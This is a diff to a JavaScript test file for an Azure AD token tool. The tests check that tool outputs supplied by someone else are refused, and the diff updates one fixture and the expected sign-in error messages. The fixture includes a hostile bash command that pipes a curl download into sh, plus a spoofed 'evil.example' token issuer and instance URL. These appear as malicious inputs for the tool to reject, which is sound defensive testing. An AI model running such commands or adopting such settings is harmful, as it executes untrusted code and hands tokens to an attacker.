@@ -307,7 +307,7 @@ describe("outputs of somebody else", () => {
       identifierUri: "https://graph.microsoft.com",
       scopes: ["https://graph.microsoft.com/.default"],
       tokenCommands: { ...outputs.tokenCommands, bash: "TOKEN=$(curl x | sh)" },
-      expectedToken: { ...outputs.expectedToken, ver: "1.0", azp: "evil" },
+      expectedToken: { ...outputs.expectedToken, iss: "https://evil.example/", azp: "evil" },
       appSettings: {
         ...outputs.appSettings,
         "Settings:AzureAdConfiguration:Instance": "https://evil.example/",
@@ -324,7 +324,7 @@ describe("outputs of somebody else", () => {
           "tokenCommands.bash",
           "identifierUri",
           "scopes.0",
-          "expectedToken.ver",
+          "expectedToken.iss",
           "expectedToken.azp",
           "appSettings.Settings:AzureAdConfiguration:Instance",
         ],
@@ -341,10 +341,11 @@ describe("outputs of somebody else", () => {
     assert.equal(
       result.stderr,
       [
-        "error: Nobody is signed in to the Azure CLI. [token.refused.not-signed-in]",
+        "error: Nobody is signed in to the Azure CLI. az has no account in this configuration folder; in Cloud Shell, the built-in sign-in does not cover other APIs. [token.refused.not-signed-in]",
         `  You are not signed in to the tenant "${outputs.tenantId}", which the standard input names. Make sure that it is yours before you sign in there.`,
         "  Sign in to the stack's tenant, for this API; no subscription is needed.",
         `  ${outputs.loginCommand}`,
+        "  Done already? az looks in another folder than the sign-in went to: compare AZURE_CONFIG_DIR, HOME and the user (sudo, container, service).",
         "",
       ].join("\n"),
     );
